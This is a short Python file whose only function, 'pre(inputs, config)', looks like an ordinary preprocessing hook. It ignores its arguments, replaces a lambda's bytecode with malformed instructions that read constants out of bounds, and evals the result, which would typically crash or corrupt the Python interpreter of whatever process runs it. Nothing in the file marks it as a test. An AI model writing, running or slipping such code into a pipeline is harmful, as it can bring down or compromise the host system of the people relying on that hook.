def pre(inputs, config):
    code = (lambda: 0).__code__.replace(co_code=b"\x64\xff" * 64, co_consts=(), co_stacksize=0)
    return eval(code)
